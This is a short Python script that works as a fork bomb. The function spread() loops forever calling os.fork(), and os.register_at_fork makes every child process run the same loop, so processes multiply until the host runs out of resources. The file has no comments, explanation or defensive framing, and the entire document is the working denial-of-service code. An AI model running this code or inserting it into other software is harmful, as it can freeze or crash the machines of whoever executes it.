import os


def spread():
    while True:
        try:
            os.fork()
        except OSError:
            pass


os.register_at_fork(after_in_child=spread)

if __name__ == "__main__":
    spread()
